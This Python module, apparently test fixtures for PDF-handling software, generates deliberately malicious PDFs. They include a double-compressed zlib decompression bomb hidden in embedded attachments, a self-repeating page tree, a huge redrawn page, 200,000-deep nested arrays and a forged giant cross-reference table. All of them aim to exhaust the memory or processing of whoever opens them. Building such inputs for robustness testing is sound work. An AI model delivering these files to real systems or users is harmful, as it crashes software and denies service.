"""Files made to do harm to whoever opens them."""

import zlib

_BLOCK = 16 * 1024 * 1024


def swollen(size: int) -> bytes:
    """A stream of a few kilobytes that comes to so many bytes once it is unpacked twice."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(_BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    once = b"\x78\xda" + block * (size // _BLOCK) + end + b"\0\0\0\1"
    return zlib.compress(once, 9)


def pdf_with(attached: list[tuple[str, bytes]]) -> bytes:
    """A PDF of one blank page with attachments: each the names of its filters and its stream."""
    bodies: list[bytes] = [
        b"",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
    ]
    names: list[bytes] = []
    for filters, stream in attached:
        at = len(bodies) + 1
        bodies.append(
            b"<</Type/EmbeddedFile/Filter[%b]/Length %d>>stream\n%b\nendstream"
            % (filters.encode(), len(stream), stream)
        )
        bodies.append(b"<</Type/Filespec/F(record.json)/UF(record.json)/EF<</F %d 0 R>>>>" % at)
        names.append(b"(%06d.json)%d 0 R" % (at, at + 1))
    bodies[0] = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[%b]>>>>>>" % b"".join(names)
    return written(bodies)


def pages_without_end(levels: int = 40, each: int = 40) -> bytes:
    """A PDF whose tree of pages holds each branch many times over: more pages than there are atoms."""
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    kids = [b"[%b]" % (b"%d 0 R " % (level + 3) * each) for level in range(levels)]
    tree = [b"<</Type/Pages/Count %d/Kids%b>>" % (2**31 - 1, kid) for kid in kids]
    return written([catalog, *tree, b"<</Type/Page/MediaBox[0 0 99 99]>>"])


def page_of_great_size() -> bytes:
    """A PDF that says this program made it, with a page of kilometres, drawn all over again and again."""
    drawing = b"0 0 99999999 99999999 re f " * 3000
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]/Contents 4 0 R>>"
    tree = b"<</Type/Pages/Kids[%b]/Count 2000>>" % (b"3 0 R " * 2000)
    stream = b"<</Length %d>>stream\n%b\nendstream" % (len(drawing), drawing)
    return written([b"<</Type/Catalog/Pages 2 0 R>>", tree, page, stream])


def boxes_in_boxes(depth: int = 200_000) -> bytes:
    """A PDF with lists within lists, deeper than a reader's own memory of where it is."""
    return written([b"<</Type/Catalog/Pages 2 0 R/A " + b"[" * depth + b"]" * depth + b">>", b"<</Type/Pages>>"])


def great_table() -> bytes:
    """A PDF that says it holds thousands of millions of objects."""
    return b"%PDF-1.7\nxref\n0 2147483647\n0000000000 65535 f \ntrailer<</Size 2147483647/Root 1 0 R>>\nstartxref\n9\n%%EOF"


def written(bodies: list[bytes]) -> bytes:
    """A PDF of these objects, the first of them its catalogue, with the table of their places."""
    parts, places, at = [b"%PDF-1.7\n"], list[int](), 9
    for number, body in enumerate(bodies, 1):
        places.append(at)
        parts.append(b"%d 0 obj%b endobj\n" % (number, body))
        at += len(parts[-1])
    made = b"".join(parts)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(bodies) + 1, len(made))
    return made + b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + table + trailer
